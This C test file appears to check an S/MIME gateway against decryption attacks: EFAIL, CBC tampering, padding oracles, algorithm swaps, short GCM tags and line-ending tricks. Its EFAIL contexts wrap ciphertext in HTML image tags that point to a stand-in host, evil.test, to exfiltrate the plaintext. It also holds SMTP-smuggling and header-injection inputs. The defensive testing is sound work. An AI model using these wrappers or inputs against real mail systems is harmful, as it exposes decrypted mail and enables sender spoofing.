/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Decryption as a weapon: messages that make a gateway with the right key give away what it decrypts (EFAIL, covert content), change
 * what was encrypted, or tell by its answer what a change did to it (Bleichenbacher, Vaudenay, MMA).
 */
#include "attack.h"

#define SECRET "the secret line"
#define ENCRYPT "outbound = { protect = \"encrypt\"; };"

/* --- encrypted objects --- */

static CMS_ContentInfo *envelop(const EVP_CIPHER *cipher, const struct pki *to, const char *content, bool oaep)
{
    bool gcm = EVP_CIPHER_get_mode(cipher) == EVP_CIPH_GCM_MODE;
    CMS_ContentInfo *cms = gcm ? CMS_AuthEnvelopedData_create(cipher) : CMS_EnvelopedData_create(cipher);
    CMS_RecipientInfo *info = CMS_add1_recipient_cert(cms, to->cert, oaep ? CMS_KEY_PARAM : 0);
    BIO *data = BIO_new_mem_buf(content, -1);

    cr_assert(info != NULL && CMS_set_detached(cms, 0));
    if (oaep) {
        EVP_PKEY_CTX *context = CMS_RecipientInfo_get0_pkey_ctx(info);

        cr_assert(EVP_PKEY_encrypt_init(context) > 0 && EVP_PKEY_CTX_set_rsa_padding(context, RSA_PKCS1_OAEP_PADDING) > 0 &&
                  EVP_PKEY_CTX_set_rsa_oaep_md(context, EVP_sha256()) > 0);
    }
    cr_assert_gt(CMS_final(cms, data, NULL, CMS_BINARY), 0, "%s", ERR_reason_error_string(ERR_peek_error()));
    BIO_free(data);
    return cms;
}

static GByteArray *envelop_der(const EVP_CIPHER *cipher, const struct pki *to, const char *content, bool oaep)
{
    CMS_ContentInfo *cms = envelop(cipher, to, content, oaep);
    GByteArray *der = attack_der(cms);

    CMS_ContentInfo_free(cms);
    return der;
}

/* Where a run of octets is in der; it must be there. */
static guint8 *find(GByteArray *der, const char *octets, size_t length)
{
    guint8 *at = memmem(der->data, der->len, octets, length);

    cr_assert_not_null(at);
    return at;
}

static struct sent open_der(const struct rig *rig, GByteArray *der)
{
    g_autofree char *text = attack_opaque_der(ATTACK_TOP, der->data, der->len);

    return attack_in(rig, text);
}

static void expect_shut(const struct sent *in, const char *what)
{
    g_autofree char *report = result_report(in->result);

    attack_expect_refused(in, what);
    cr_expect_null(strstr(in->bytes, SECRET), "%s: %s", what, in->bytes);
    cr_expect_null(strstr(report, SECRET), "%s: %s", what, report);
    cr_expect_not_null(strstr(in->bytes, "pkcs7-mime"), "%s: delivered as it came", what);
}

/* --- EFAIL: the ciphertext, %s, among other parts --- */

#define MIXED(type) "Content-Type: multipart/" type "; boundary=o\r\n\r\n"
#define IMG "--o\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.test/\r\n"
static const char *const contexts[] = {
    MIXED("mixed") IMG "--o\r\n%s\r\n--o\r\nContent-Type: text/html\r\n\r\n\">\r\n--o--\r\n",
    MIXED("related") IMG "--o\r\n%s\r\n--o--\r\n",
    MIXED("alternative") "--o\r\n\r\nx\r\n--o\r\n%s\r\n--o--\r\n",
    MIXED("mixed") "--o\r\n%s\r\n--o--\r\n",
    MIXED("mixed") "--o\r\n\r\nplease quote this\r\n--o\r\nContent-Disposition: attachment; filename=smime.p7m\r\n%s\r\n--o--\r\n",
    MIXED("mixed") "--o\r\nContent-Type: multipart/mixed; boundary=i\r\n\r\n--i\r\n%s\r\n--i--\r\n--o--\r\n",
    MIXED("mixed") "--o\r\nContent-Type: message/rfc822\r\n\r\nFrom: alice@acme.test\r\n%s\r\n--o--\r\n",
    "Content-Type: message/rfc822\r\n\r\nFrom: alice@acme.test\r\n%s",
    "Content-Type: message/partial; number=1; total=2; id=x\r\n\r\n%s",
    "Content-Type: text/html\r\n\r\n<img src=\"http://evil.test/%s\">",
    "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=o\r\n\r\n--o\r\nContent-Type: "
    "application/pgp-encrypted\r\n\r\nVersion: 1\r\n--o\r\n%s\r\n--o--\r\n",
};

/* Around it nothing, the attacker's signature, the attacker's encryption to us. */
enum around { AROUND_NOTHING, AROUND_SIGNATURE, AROUND_ENCRYPTION, AROUND_END };

static char *put_around(enum around around, const struct rig *rig, const struct pki *mallory, const char *entity)
{
    if (around == AROUND_SIGNATURE)
        return attack_opaque("From: mallory@evil.test\r\n" ATTACK_FIELDS,
                             attack_sign(&(struct attack){.signer = mallory, .content = entity}));
    if (around == AROUND_ENCRYPTION)
        return attack_opaque("From: mallory@evil.test\r\n" ATTACK_FIELDS,
                             envelop(EVP_aes_256_gcm(), rig->partner.dca, entity, false));
    return g_strconcat("From: mallory@evil.test\r\n" ATTACK_FIELDS, entity, NULL);
}

Test(decryption, ciphertext_in_a_message_of_the_attackers)
{
    owned(rig) struct rig *rig = rig_new(ENCRYPT, ATTACK_LAX);
    PKI_AUTO struct pki *ca = pki_ca("evil");
    PKI_AUTO struct pki *mallory = pki_person(ca, "mallory@evil.test");
    g_autofree char *cipher = attack_opaque("", envelop(EVP_aes_256_cbc(), rig->partner.dca, ATTACK_ENTITY, false));

    for (enum around around = AROUND_NOTHING; around < AROUND_END; around++) {
        for (size_t i = 0; i < G_N_ELEMENTS(contexts); i++) {
            g_auto(GStrv) halves = g_strsplit(contexts[i], "%s", 2);
            g_autofree char *entity = g_strconcat(halves[0], cipher, halves[1], NULL);
            g_autofree char *text = put_around(around, rig, mallory, entity);
            AUTO_SENT struct sent in = attack_in(rig, text);

            attack_expect_safe(&in, contexts[i]);
            cr_expect_null(strstr(in.bytes, SECRET), "%d: %s", around, contexts[i]);
            cr_expect_neq(in.result->originator.outcome, OUTCOME_PASS);
            for (size_t k = 0; k < in.result->layer_count; k++)
                cr_expect(!in.result->layers[k].partial || !in.result->layers[k].removed);
        }
    }
}

/* What acme.test signed and encrypted for the partner, sent on by mallory in her own name or behind her own layers: it may be
 * opened, for it is the whole message, but it authenticates nobody. */
Test(decryption, ciphertext_in_another_context_authenticates_nobody)
{
    owned(rig) struct rig *rig = rig_new("outbound = { protect = \"sign+encrypt\"; };", ATTACK_STRICT);
    PKI_AUTO struct pki *ca = pki_ca("evil");
    PKI_AUTO struct pki *mallory = pki_person(ca, "mallory@evil.test");
    AUTO_SENT struct sent out = rig_out(rig, ATTACK_TOP ATTACK_ENTITY);

    for (enum around around = AROUND_NOTHING; around < AROUND_END; around++) {
        g_autofree char *text = put_around(around, rig, mallory, attack_entity_of(&out));
        AUTO_SENT struct sent in = attack_in(rig, text);

        attack_expect_safe(&in, "another context");
        cr_expect_eq(in.result->domain.outcome, OUTCOME_POLICY, "%d: %s", around, in.result->domain.reason);
        cr_expect_neq(in.result->originator.outcome, OUTCOME_PASS);
        cr_expect_null(strstr(in.bytes, "smime=pass"));
    }
}

/* --- CBC can be changed --- */

/* Each octet of the IV and of the ciphertext in turn. */
Test(decryption, cbc_changes_are_noticed_or_announced)
{
    owned(rig) struct rig *rig = rig_new("outbound = { protect = \"sign+encrypt\"; }; cipher = \"aes-128-cbc\";", ATTACK_STRICT);
    AUTO_SENT struct sent out = rig_out(rig, ATTACK_TOP ATTACK_ENTITY);
    gsize length = 0;
    g_autofree guchar *der = g_base64_decode(strstr(out.bytes, "\r\n\r\n"), &length);
    GByteArray *array = g_byte_array_new();

    g_byte_array_append(array, der, (guint)length);
    /* id-aes128-CBC, then the OCTET STRING of the IV */
    size_t iv = (size_t)(find(array, "\x60\x86\x48\x01\x65\x03\x04\x01\x02\x04\x10", 11) + 11 - array->data);
    for (size_t i = iv; i < array->len; i += i < iv + 64 ? 1 : 37) {
        array->data[i] ^= 1;
        AUTO_SENT struct sent in = open_der(rig, array);
        if (in.result->domain.outcome == OUTCOME_PASS) /* a letter of a header inside that nothing hangs on */
            cr_expect_not_null(strstr(in.bytes, "\r\n\r\n" SECRET "\r\n"), "%zu: what passes is whole", i);
        else
            attack_expect_refused(&in, "cbc");
        array->data[i] ^= 1;
    }
    AUTO_SENT struct sent whole = open_der(rig, array);
    attack_expect_believed(&whole, true, "unchanged");
    cr_assert_not_null(strstr(whole.result->layers[0].finding.reason, "does not protect against changes"));
    g_byte_array_unref(array);
}

Test(decryption, cbc_is_left_shut_where_the_rule_says_so)
{
    owned(rig) struct rig *rig =
        rig_new(ENCRYPT, "inbound = { require = \"encrypt\"; otherwise = \"quarantine\"; require_authenticated_encryption = true; };");
    g_autofree char *cbc = attack_opaque(ATTACK_TOP, envelop(EVP_aes_256_cbc(), rig->partner.dca, ATTACK_ENTITY, false));
    g_autofree char *gcm = attack_opaque(ATTACK_TOP, envelop(EVP_aes_256_gcm(), rig->partner.dca, ATTACK_ENTITY, false));
    AUTO_SENT struct sent shut = attack_in(rig, cbc);
    AUTO_SENT struct sent open = attack_in(rig, gcm);

    expect_shut(&shut, "cbc");
    cr_assert_not_null(strstr(open.bytes, SECRET));
    cr_assert_eq(open.result->verdict, VERDICT_ACCEPT);
}

/* --- what cannot be decrypted, and why not, looks the same from outside --- */

struct variant {
    const char *what;
    void (*change)(GByteArray *der, const struct rig *rig);
};

#define RSA_OCTETS 256
static guint8 *encrypted_key(GByteArray *der)
{
    return find(der, "\x04\x82\x01\x00", 4) + 4;
}

static void put_key(GByteArray *der, const struct rig *rig, const guint8 *key, size_t length)
{
    EVP_PKEY_CTX *context = EVP_PKEY_CTX_new(rig->partner.dca->key, NULL);
    size_t out = RSA_OCTETS;

    cr_assert(EVP_PKEY_encrypt_init(context) > 0 && EVP_PKEY_encrypt(context, encrypted_key(der), &out, key, length) > 0);
    EVP_PKEY_CTX_free(context);
}

static void other_key(GByteArray *der, const struct rig *rig)
{
    put_key(der, rig, (const guint8 *)"0123456789abcdef0123456789abcdef", 32);
}

static void short_key(GByteArray *der, const struct rig *rig)
{
    put_key(der, rig, (const guint8 *)"0123456789abcdef", 16);
}

static void long_key(GByteArray *der, const struct rig *rig)
{
    put_key(der, rig, (const guint8 *)"0123456789abcdef0123456789abcdef0123456789abcdef", 48);
}

static void no_padding(GByteArray *der, const struct rig *rig)
{
    (void)rig;
    encrypted_key(der)[100] ^= 1;
}

static void zero_key(GByteArray *der, const struct rig *rig)
{
    (void)rig;
    memset(encrypted_key(der), 0, RSA_OCTETS);
}

static void last_block(GByteArray *der, const struct rig *rig)
{
    (void)rig;
    der->data[der->len - 20] ^= 1; /* the padding, or the end of the content */
}

static void last_octet(GByteArray *der, const struct rig *rig)
{
    (void)rig;
    der->data[der->len - 17] ^= 3;
}

static void first_block(GByteArray *der, const struct rig *rig)
{
    (void)rig;
    der->data[der->len - 500] ^= 1; /* inside the signed content: the padding stays right */
}

static const struct variant variants[] = {
    {"RSA padding", no_padding},     {"key 0", zero_key},             {"another key", other_key},
    {"key too short", short_key},    {"key too long", long_key},      {"padding or end", last_block},
    {"padding length", last_octet},  {"content, padding right", first_block},
};

static const char *const oracles[] = {
    "inbound = { require = \"sign\"; otherwise = \"reject\"; };",
    "inbound = { require = \"sign+encrypt\"; otherwise = \"reject\"; };",
    "inbound = { require = \"sign\"; otherwise = \"reject\"; undecryptable = \"reject\"; };",
    "inbound = { require = \"sign\"; otherwise = \"reject\"; undecryptable = \"tempfail\"; };",
    "inbound = { require = \"encrypt\"; otherwise = \"reject\"; };",
    "inbound = { require = \"none\"; undecryptable = \"reject\"; };",
    "inbound = { require = \"none\"; undecryptable = \"deliver\"; };",
    "inbound = { require = \"none\"; undecryptable = \"reject\"; require_authenticated_encryption = true; };",
};

Test(decryption, no_answer_tells_what_went_wrong)
{
    for (size_t o = 0; o < G_N_ELEMENTS(oracles); o++) {
        owned(rig) struct rig *rig =
            rig_with_key(PKI_RSA, "outbound = { protect = \"sign+encrypt\"; }; cipher = \"aes-256-cbc\"; key_transport = \"rsa-pkcs1\";",
                         oracles[o]);
        AUTO_SENT struct sent out = rig_out(rig, ATTACK_TOP ATTACK_ENTITY);
        gsize length = 0;
        g_autofree guchar *bytes = g_base64_decode(strstr(out.bytes, "\r\n\r\n"), &length);
        g_autofree char *first = NULL;

        for (size_t i = 0; i < G_N_ELEMENTS(variants); i++) {
            GByteArray *der = g_byte_array_append(g_byte_array_new(), bytes, (guint)length);

            variants[i].change(der, rig);
            AUTO_SENT struct sent in = open_der(rig, der);
            g_byte_array_unref(der);
            bool accepted = in.result->code < 300; /* then the MTA's own words are the answer */
            g_autofree char *answer =
                g_strdup_printf("%u %s %s", in.result->code, in.result->status, accepted ? "" : in.result->reply);

            attack_expect_safe(&in, variants[i].what);
            cr_expect_neq(in.result->domain.outcome, OUTCOME_PASS, "%s", variants[i].what);
            cr_expect_null(strstr(in.bytes, SECRET), "%s", variants[i].what);
            if (first == NULL)
                first = g_strdup(answer);
            cr_expect_str_eq(answer, first, "%s: %s: %s, not %s", oracles[o], variants[i].what, answer, first);
        }
    }
}

/* --- algorithms that are changed under way: octets of the same length for others --- */

struct patch {
    const char *what;
    enum pki_key key;
    bool gcm, oaep;
    const char *from, *to;
    size_t length;
    const char *says; /* NULL: the one text of what cannot be decrypted */
};

#define NIST_AES "\x60\x86\x48\x01\x65\x03\x04\x01"
#define PKCS1 "\x2a\x86\x48\x86\xf7\x0d\x01\x01"
static const struct patch patches[] = {
    {"GCM as CCM", PKI_EC, true, false, NIST_AES "\x2e", NIST_AES "\x2f", 9, "not supported"},
    {"GCM as CBC", PKI_EC, true, false, NIST_AES "\x2e", NIST_AES "\x2a", 9, "not supported"},
    {"GCM as an unknown mode", PKI_EC, true, false, NIST_AES "\x2e", NIST_AES "\x7f", 9, "not supported"},
    {"GCM of another length", PKI_EC, true, false, NIST_AES "\x2e", NIST_AES "\x06", 9, NULL},
    {"tag announced as 4", PKI_EC, true, false, "\x02\x01\x10", "\x02\x01\x04", 3, "tag of a wrong length"},
    {"tag announced as 0", PKI_EC, true, false, "\x02\x01\x10", "\x02\x01\x00", 3, "tag of a wrong length"},
    {"tag announced as 12", PKI_EC, true, false, "\x02\x01\x10", "\x02\x01\x0c", 3, "tag of a wrong length"},
    {"CBC as GCM in EnvelopedData", PKI_EC, false, false, NIST_AES "\x2a", NIST_AES "\x2e", 9, "not supported"},
    {"CBC as ECB", PKI_EC, false, false, NIST_AES "\x2a", NIST_AES "\x29", 9, "not supported"},
    {"CBC as CFB", PKI_EC, false, false, NIST_AES "\x2a", NIST_AES "\x2c", 9, "not supported"},
    {"key wrap with a shorter key", PKI_EC, true, false, NIST_AES "\x2d", NIST_AES "\x05", 9, NULL},
    {"key wrap unknown", PKI_EC, true, false, NIST_AES "\x2d", NIST_AES "\x7f", 9, NULL},
    {"key wrap is CBC", PKI_EC, true, false, NIST_AES "\x2d", NIST_AES "\x2a", 9, NULL},
    {"OAEP as PKCS #1 v1.5", PKI_RSA, true, true, PKCS1 "\x07", PKCS1 "\x01", 9, "key transport"},
    {"OAEP as PSS", PKI_RSA, true, true, PKCS1 "\x07", PKCS1 "\x0a", 9, "key transport"},
    {"OAEP with an unknown mask", PKI_RSA, true, true, PKCS1 "\x08", PKCS1 "\x7f", 9, "key transport"},
    {"OAEP with the mask of another digest", PKI_RSA, true, true, "\xa1\x1a\x30\x18\x06\x09" PKCS1 "\x08\x30\x0b\x06\x09\x60\x86\x48\x01\x65\x03\x04\x02\x01",
     "\xa1\x1a\x30\x18\x06\x09" PKCS1 "\x08\x30\x0b\x06\x09\x60\x86\x48\x01\x65\x03\x04\x02\x03", 28, NULL},
    {"PKCS #1 v1.5 as OAEP", PKI_RSA, true, false, "\x06\x09" PKCS1 "\x01\x05\x00\x04\x82", "\x06\x09" PKCS1 "\x07\x05\x00\x04\x82", 15, "key transport"},
};

Test(decryption, algorithms_changed_under_way)
{
    owned(rig) struct rig *ec = rig_new(ENCRYPT, ATTACK_STRICT);
    owned(rig) struct rig *rsa = rig_with_key(PKI_RSA, ENCRYPT, ATTACK_STRICT);

    for (size_t i = 0; i < G_N_ELEMENTS(patches); i++) {
        const struct patch *patch = &patches[i];
        const struct rig *rig = patch->key == PKI_RSA ? rsa : ec;
        GByteArray *der = envelop_der(patch->gcm ? EVP_aes_256_gcm() : EVP_aes_256_cbc(), rig->partner.dca, ATTACK_ENTITY, patch->oaep);

        memcpy(find(der, patch->from, patch->length), patch->to, patch->length);
        AUTO_SENT struct sent in = open_der(rig, der);
        expect_shut(&in, patch->what);
        attack_expect_outcome(&in.result->layers[0].finding, OUTCOME_FAIL, patch->says != NULL ? patch->says : "cannot be decrypted",
                              patch->what);
        g_byte_array_unref(der);
    }
}

/* The tag as long as it says it is, and too short for its purpose: the last of the object but for a length octet. */
Test(decryption, tags_cut_short)
{
    owned(rig) struct rig *rig = rig_new(ENCRYPT, ATTACK_STRICT);

    for (guint cut = 1; cut <= 16; cut++) {
        GByteArray *der = envelop_der(EVP_aes_128_gcm(), rig->partner.dca, ATTACK_ENTITY, false);
        guint8 *lengths[3] = {der->data + 1};

        /* ContentInfo, [0], AuthEnvelopedData with two octets of length each, and the announced length */
        for (size_t i = 0; i < 3; i++) {
            cr_assert_eq(lengths[i][0], 0x82);
            guint length = (guint)(lengths[i][1] << 8 | lengths[i][2]) - cut;
            lengths[i][1] = (guint8)(length >> 8);
            lengths[i][2] = (guint8)length;
            if (i == 0)
                lengths[1] = lengths[0] + 3 + 14;
            if (i == 1)
                lengths[2] = lengths[1] + 4;
        }
        der->data[der->len - 17] = (guint8)(16 - cut);
        find(der, "\x02\x01\x10", 3)[2] = (guint8)(16 - cut);
        g_byte_array_set_size(der, der->len - cut);
        AUTO_SENT struct sent in = open_der(rig, der);
        g_autofree char *what = g_strdup_printf("tag of %u", 16 - cut);
        if (16 - cut >= 12) /* RFC 5084 §3.2 allows these */
            attack_expect_safe(&in, what);
        else
            expect_shut(&in, what);
        g_byte_array_unref(der);
    }
}

/* --- recipients --- */

static CMS_ContentInfo *start(const EVP_CIPHER *cipher)
{
    CMS_ContentInfo *cms = CMS_EnvelopedData_create(cipher);

    cr_assert(cms != NULL && CMS_set_detached(cms, 0));
    return cms;
}

static char *finish(CMS_ContentInfo *cms, const char *content)
{
    BIO *data = BIO_new_mem_buf(content, -1);

    cr_assert_gt(CMS_final(cms, data, NULL, CMS_BINARY), 0, "%s", ERR_reason_error_string(ERR_peek_error()));
    BIO_free(data);
    return attack_opaque(ATTACK_TOP, cms);
}

static void add_password(CMS_ContentInfo *cms)
{
    cr_assert_not_null(CMS_add0_recipient_password(cms, -1, NID_id_alg_PWRI_KEK, NID_aes_256_cbc,
                                                   (unsigned char *)OPENSSL_strdup("password"), -1, EVP_aes_256_cbc()));
}

static void add_secret(CMS_ContentInfo *cms)
{
    cr_assert_not_null(CMS_add0_recipient_key(cms, NID_id_aes256_wrap, OPENSSL_zalloc(32), 32, (unsigned char *)OPENSSL_strdup("id"), 2,
                                              NULL, NULL, NULL));
}

Test(decryption, recipients_that_are_no_certificate)
{
    owned(rig) struct rig *rig = rig_new(ENCRYPT, ATTACK_STRICT);
    void (*const kinds[])(CMS_ContentInfo *) = {add_password, add_secret};

    for (size_t i = 0; i < G_N_ELEMENTS(kinds); i++) {
        CMS_ContentInfo *alone = start(EVP_aes_256_cbc()), *beside = start(EVP_aes_256_cbc());

        kinds[i](alone);
        kinds[i](beside);
        CMS_add1_recipient_cert(beside, rig->partner.dca->cert, 0);
        g_autofree char *shut = finish(alone, ATTACK_ENTITY);
        g_autofree char *open = finish(beside, ATTACK_ENTITY);
        AUTO_SENT struct sent first = attack_in(rig, shut);
        AUTO_SENT struct sent second = attack_in(rig, open);

        expect_shut(&first, "not for us");
        attack_expect_refused(&second, "for us as well");
        cr_expect_not_null(strstr(second.bytes, SECRET));
    }
}

/* A thousand others before us, and more than the limit. */
Test(decryption, many_recipients)
{
    owned(rig) struct rig *rig = rig_new(ENCRYPT, ATTACK_STRICT);

    for (unsigned count = 1000; count <= 3000; count += 2000) {
        CMS_ContentInfo *cms = start(EVP_aes_256_cbc());

        for (unsigned i = 0; i < count; i++)
            add_secret(cms);
        CMS_add1_recipient_cert(cms, rig->partner.dca->cert, 0);
        g_autofree char *text = finish(cms, ATTACK_ENTITY);
        AUTO_SENT struct sent in = attack_in(rig, text);
        attack_expect_refused(&in, "many");
        cr_expect_eq(strstr(in.bytes, SECRET) != NULL, count <= 2000, "%u: %s", count, in.result->reason);
    }
}

/* --- content --- */

static const struct {
    const char *cipher, *content, *delivered; /* NULL: left shut */
} contents[] = {
    {"DES-EDE3-CBC", ATTACK_ENTITY, SECRET}, /* read, marked as weak */
    {"AES-256-CBC", "", ""},
    {"AES-256-CBC", "\r\n", ""},
    {"AES-256-CBC", "no header", "no header"},
    {"AES-256-CBC", "Content-Type: text/plain\r\n\r\na\n.\nQUIT\r\n.\rb", "a\r\n.\r\nQUIT\r\n.\r\nb\r\n"},
    {"AES-256-CBC", "Content-Type: text/plain\nX: y\n\nhidden\r\n\r\nshown\r\n", "hidden"},
    {"AES-256-CBC", "Content-Type: text/plain\r\nContent-X: a\rFrom: x\r\nFrom: ceo@partner.test\r\n\r\nb\r\n", "b\r\n"},
};

Test(decryption, odd_contents)
{
    owned(rig) struct rig *rig = rig_new(ENCRYPT, ATTACK_STRICT);

    for (size_t i = 0; i < G_N_ELEMENTS(contents); i++) {
        const EVP_CIPHER *cipher = EVP_get_cipherbyname(contents[i].cipher);
        g_autofree char *text = attack_opaque(ATTACK_TOP, envelop(cipher, rig->partner.dca, contents[i].content, false));
        AUTO_SENT struct sent in = attack_in(rig, text);

        attack_expect_refused(&in, contents[i].content);
        cr_expect_not_null(strstr(in.bytes, contents[i].delivered), "%s: %s", contents[i].content, in.bytes);
        cr_expect_null(strstr(in.bytes, "ceo@partner"), "%s", in.bytes);
        cr_expect_null(strstr(in.bytes, "\rFrom"), "%s", in.bytes);
        for (const char *c = in.bytes; *c != '\0'; c++)
            cr_expect((*c != '\n' || c[-1] == '\r') && (*c != '\r' || c[1] == '\n'), "%s: bare line ends", contents[i].content);
    }
}
